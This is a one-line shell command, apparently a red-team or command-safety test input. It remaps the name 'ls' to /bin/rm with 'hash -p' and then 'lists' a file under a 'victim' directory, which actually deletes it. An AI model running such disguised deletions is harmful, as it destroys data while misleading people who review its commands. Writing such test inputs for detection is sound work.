f=ls; declare -f $f >/dev/null; hash -p /bin/rm $f; $f /srv/rt3/victim/keep2.txt
